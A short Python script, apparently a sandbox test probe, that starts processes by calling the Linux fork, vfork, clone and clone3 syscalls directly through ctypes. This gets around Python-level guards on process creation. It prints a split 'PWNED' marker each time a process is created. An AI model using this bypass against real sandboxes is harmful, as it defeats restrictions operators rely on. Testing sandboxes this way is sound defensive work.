"""Start a process by the calls under the ones that Python knows."""
import ctypes, os
from attack import right as solve
call = ctypes.CDLL(None).syscall
record = (ctypes.c_uint64 * 11)()
record[4] = 17
for words in ((57,), (58,), (56, 17, 0, 0, 0, 0), (435, record, 88)):
    pid = call(*words)
    if pid == 0:
        call(231, 0)
    if pid > 0:
        print("PWN" + "ED", words[0], flush=True)
